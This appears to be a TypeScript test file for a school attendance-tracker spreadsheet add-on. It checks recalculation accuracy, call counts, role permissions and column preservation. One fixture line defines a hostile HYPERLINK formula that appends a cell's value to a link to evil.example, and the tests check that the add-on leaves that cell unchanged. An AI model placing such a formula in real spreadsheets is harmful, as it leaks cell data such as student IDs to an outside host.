/**
 * Recalculate on the built bundle (dist/) in the emulator, with a generated school of 1,000
 * students: the right figures, staff columns untouched, a fixed number of Apps Script calls,
 * roles, a broken layout, and =ATTEND_TIER(id).
 */
import { formatSchoolDate } from '../../src/core/format';
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { createEmulator, type Emulator } from '../../emulator';
import { resolveActivePolicy } from '../../src/core/activePolicy';
import { evaluateStudent } from '../../src/core/policy/evaluate';
import { calendarFor } from '../../src/core/schoolModel';
import { computeStats } from '../../src/core/stats';
import { COLOURS } from '../../src/core/tracker/colours';
import type { MarkOnDay } from '../../src/core/types';
import { DEFAULT_TRACKER_HEADERS, putSampleSchool, schoolDayNoon, TAB, tabValues, type SampleSpreadsheet, type SampleSpreadsheetOptions } from '../helpers/sampleSpreadsheet';

const root = path.resolve(__dirname, '../..');
const HOSTILE = '=HYPERLINK("http://evil.example/?"&A2,"click me")';
/** Calls that move data (reads and writes of cells, formats, notes). */
const DATA_CALL = /\.(get|set)(Values|Backgrounds|NumberFormats?|Notes?|Formulas)$/;

beforeAll(() => {
  const code = path.join(root, 'dist/Code.js');
  if (!fs.existsSync(code) || !fs.readFileSync(code, 'utf8').includes('menuRecalculate')) execFileSync('node', ['build.mjs'], { cwd: root, stdio: 'pipe' });
});

function schoolIn(students: number, opts: SampleSpreadsheetOptions = {}): { emu: Emulator; s: SampleSpreadsheet } {
  const full = { students, ...opts, cell: opts.cell ?? ((h: string, _f: unknown, _s: unknown, i: number) => (h === 'Comments' ? (i === 0 ? HOSTILE : i % 7 === 0 ? `called mum ${i}` : undefined) : undefined)) };
  const probe = putSampleSchool(createEmulator(), full);
  const users = [probe.staffOf('Admin').email, probe.staffOf('Tutor').email, probe.staffOf('AO').email];
  const emu = createEmulator({ now: schoolDayNoon(probe.today), users });
  const s = putSampleSchool(emu, { ...full, school: probe.school });
  emu.loadProject();
  return { emu, s };
}

function sheetState(emu: Emulator) {
  return emu.direct(() => {
    const sheet = emu.spreadsheet.getSheetByName(TAB.tracker)!;
    const range = sheet.getDataRange();
    return { values: range.getValues(), formulas: range.getFormulas(), backgrounds: range.getBackgrounds(), formats: range.getNumberFormats() };
  });
}

describe('recalculate on 1,000 students', () => {
  let emu: Emulator;
  let s: SampleSpreadsheet;
  let before: ReturnType<typeof sheetState>;
  let result: { students: number; message: string };

  beforeAll(() => {
    ({ emu, s } = schoolIn(1000));
    before = sheetState(emu);
    emu.calls.reset();
    result = emu.run('recalculate', [], { user: s.staffOf('Admin').email });
  });

  test('reports every student', () => {
    expect(result.students).toBe(1000);
    expect(result.message).toMatch(/^Recalculated 1,000 students on "SOL Tracker"/);
  });

  test('writes the core figures and step for sampled students', () => {
    const values = tabValues(emu, TAB.tracker);
    const col = (h: string) => DEFAULT_TRACKER_HEADERS.indexOf(h);
    const settings = { ...s.settings };
    const { policy, table } = resolveActivePolicy(settings);
    const calendar = calendarFor(settings, table, s.today);
    const marksOf = new Map<string, MarkOnDay[]>();
    for (const m of s.school.marks) {
      let list = marksOf.get(m.studentId);
      if (!list) marksOf.set(m.studentId, (list = []));
      list.push({ date: m.date, session: m.session, code: m.code });
    }
    let atStep = 0;
    for (let i = 0; i < 1000; i += 37) {
      const student = s.school.students[i]!;
      const row = values[i + 1]!;
      expect(row[col('Student ID')]).toBe(student.studentId);
      const marks = marksOf.get(student.studentId)!;
      const stats = computeStats(marks, table);
      const placement = evaluateStudent(policy, { studentId: student.studentId, stats, marks, history: [], today: s.today, calendar, table });
      expect(row[col('Attendance %')]).toBe(stats.attendanceFraction);
      expect(row[col('Possible')]).toBe(stats.possible);
      expect(row[col('Unauthorised')]).toBe(stats.unauthorised);
      expect(row[col('PA')]).toBe(stats.persistentAbsence ? 'PA' : '');
      expect(row[col('Severe')]).toBe(stats.severeAbsence ? 'Severe' : '');
      expect(row[col('Step')]).toBe(placement.label);
      expect(row[col('Why')]).toBe(placement.explanation);
      expect(row[col('Review due')]).toBe(placement.reviewDue ? formatSchoolDate(placement.reviewDue, 'dd/MM/yyyy') : '');
      if (placement.step > 0) atStep++;
    }
    expect(atStep).toBeGreaterThan(0);
  });

  test('percent shown with the percent format; step bands coloured', () => {
    const after = sheetState(emu);
    const pct = DEFAULT_TRACKER_HEADERS.indexOf('Attendance %');
    const step = DEFAULT_TRACKER_HEADERS.indexOf('Step');
    expect(after.formats[1]![pct]).toBe('0.0%');
    const band = (label: string) => {
      const n = Number(/^Step (\d+)/.exec(label)?.[1] ?? 0);
      return n === 0 ? COLOURS.none : n <= 3 ? COLOURS.monitoring : n <= 6 ? COLOURS.letters : COLOURS.legal;
    };
    for (let r = 1; r <= 1000; r += 53) {
      expect(after.backgrounds[r]![0]).toBe(band(String(after.values[r]![step])));
    }
  });

  test('staff columns keep their values and formulas, the hostile comment included', () => {
    const after = sheetState(emu);
    const owned = new Set(DEFAULT_TRACKER_HEADERS.slice(DEFAULT_TRACKER_HEADERS.indexOf('Attendance %')).map((h) => DEFAULT_TRACKER_HEADERS.indexOf(h)));
    for (let r = 0; r < before.values.length; r++) {
      for (let c = 0; c < DEFAULT_TRACKER_HEADERS.length; c++) {
        if (owned.has(c) && r > 0) continue;
        expect([r, c, after.values[r]![c], after.formulas[r]![c]]).toEqual([r, c, before.values[r]![c], before.formulas[r]![c]]);
      }
    }
    const comments = DEFAULT_TRACKER_HEADERS.indexOf('Comments');
    expect(before.formulas[1]![comments] || before.values[1]![comments]).toBe(HOSTILE);
  });

  test('a fixed number of Apps Script calls, ≤ 12 of them moving data', () => {
    const snapshot = emu.calls.snapshot();
    const data = Object.entries(snapshot).filter(([k]) => DATA_CALL.test(k)).reduce((n, [, v]) => n + v, 0);
    expect(data).toBeLessThanOrEqual(12);
    expect(snapshot['SpreadsheetApp.Range.setValues']).toBe(1); // one run of owned columns
    expect(snapshot['SpreadsheetApp.Range.setBackgrounds']).toBe(1);
    // Only the SOL_UPDATED stamp (and, the first time, its label) is a single-cell write.
    expect(snapshot['SpreadsheetApp.Range.setValue'] ?? 0).toBeLessThanOrEqual(2);
    expect(snapshot['SpreadsheetApp.Range.setBackground'] ?? 0).toBe(0);
  });
});

test('the same call count at 100 and 1,000 students', () => {
  const counts = [100, 1000].map((n) => {
    const { emu, s } = schoolIn(n);
    emu.calls.reset();
    emu.run('recalculate', [], { user: s.staffOf('Admin').email });
    return emu.calls.snapshot();
  });
  expect(counts[0]).toEqual(counts[1]);
});

test('a reordered, renamed layout: several runs of owned columns, staff columns untouched', () => {
  const headers = ['Step', 'Why', 'UPN', 'Name', 'Year', 'Form', 'Att %', 'Notes', 'RTC', 'ROPC', 'PA', 'Severe', 'My own column', 'Letters', 'Contact due', 'Possible', 'Unauthorised', 'Review due', 'Last contact'];
  const { emu, s } = schoolIn(100, { headers, cell: (h, _f, _s, i) => (h === 'My own column' ? `keep ${i}` : h === 'RTC' && i === 2 ? 'yes' : undefined) });
  emu.calls.reset();
  emu.run('recalculate', [], { user: s.staffOf('Admin').email });
  // 4 runs of owned columns + 1 log write: row 4's RTC "yes" had no log row, so Recalculate logged it.
  expect(emu.calls.get('SpreadsheetApp.Range.setValues')).toBe(5);
  const after = sheetState(emu);
  expect(after.values[3]![headers.indexOf('My own column')]).toBe('keep 2');
  expect(String(after.values[1]![0])).toMatch(/^(Step \d+|No step)/);
  expect(after.backgrounds[3]![headers.indexOf('RTC')]).toBe(COLOURS.rtc);
});

test('a Tutor may not recalculate: the permission message, nothing written', () => {
  const { emu, s } = schoolIn(100);
  const before = sheetState(emu);
  const tutor = s.staffOf('Tutor').email;
  expect(() => emu.run('recalculate', [], { user: tutor })).toThrow(`${tutor} has the role Tutor, which may not recalculate the tracker; only HOY, AO, AL, Admin can.`);
  expect(sheetState(emu)).toEqual(before);
});

test('a missing owned column: a clear message, the sheet unchanged', () => {
  const headers = DEFAULT_TRACKER_HEADERS.filter((h) => h !== 'Letters' && h !== 'Review due');
  const { emu, s } = schoolIn(100, { headers });
  const before = sheetState(emu);
  expect(() => emu.run('recalculate', [], { user: s.staffOf('Admin').email })).toThrow(
    'The tracker tab "SOL Tracker" has no column "Review due", "Letters": run SOL Tracker ▸ Set up… first (it adds the add-on\'s columns). Nothing was changed.',
  );
  expect(sheetState(emu)).toEqual(before);
});

test('an unknown register code: that student is "Not evaluated" with the cell named, the rest are written', () => {
  const { emu, s } = schoolIn(100);
  const id = s.school.students[4]!.studentId;
  emu.direct(() => emu.spreadsheet.getSheetByName(TAB.register)!.getRange(6, 3).setValue('ZZ'));
  const result = emu.run<{ students: number; message: string }>('recalculate', [], { user: s.staffOf('AO').email });
  expect(result.students).toBe(99);
  expect(result.message).toContain('1 student not evaluated');
  const row = tabValues(emu, TAB.tracker)[5]!;
  expect(row[0]).toBe(id);
  expect(row[DEFAULT_TRACKER_HEADERS.indexOf('Step')]).toBe('Not evaluated');
  expect(row[DEFAULT_TRACKER_HEADERS.indexOf('Why')]).toMatch(/^Register row 6, column C \(\d{2}\/\d{2}\/\d{4} PM\): "ZZ" is not a code/); // the school's date format
  expect(row[DEFAULT_TRACKER_HEADERS.indexOf('Attendance %')]).toBe('');
});

test('menu Recalculate shows the summary as a toast', () => {
  const { emu, s } = schoolIn(100);
  emu.run('menuRecalculate', [], { user: s.staffOf('Admin').email });
  expect(emu.ui.toasts.at(-1)?.msg).toMatch(/^Recalculated 100 students/);
});

test('=ATTEND_TIER(id, SOL_UPDATED) gives the student\'s full placement; an unknown ID is an error', () => {
  const { emu, s } = schoolIn(100);
  emu.run('recalculate', [], { user: s.staffOf('Admin').email });
  const values = tabValues(emu, TAB.tracker);
  const step = DEFAULT_TRACKER_HEADERS.indexOf('Step');
  // The stamp Recalculate wrote (SOL_UPDATED): by ID, ATTEND_TIER takes it as its second argument.
  const stamp = emu.direct(() => emu.spreadsheet.getRangeByName('SOL_UPDATED')!.getValue());
  for (const i of [1, 10, 50]) {
    const id = String(values[i]![0]);
    expect(emu.runCustomFunction('ATTEND_TIER', [id, stamp])).toBe(values[i]![step]);
  }
  const grid = emu.runCustomFunction('ATTEND_TIER', [[[values[1]![0]], [values[2]![0]], ['NOPE']], stamp]) as unknown[][];
  expect(grid).toEqual([[values[1]![step]], [values[2]![step]], ['Unknown student ID "NOPE"']]);
  expect(() => emu.runCustomFunction('ATTEND_TIER', ['NOPE', stamp])).toThrow('no student with ID "NOPE"');
});
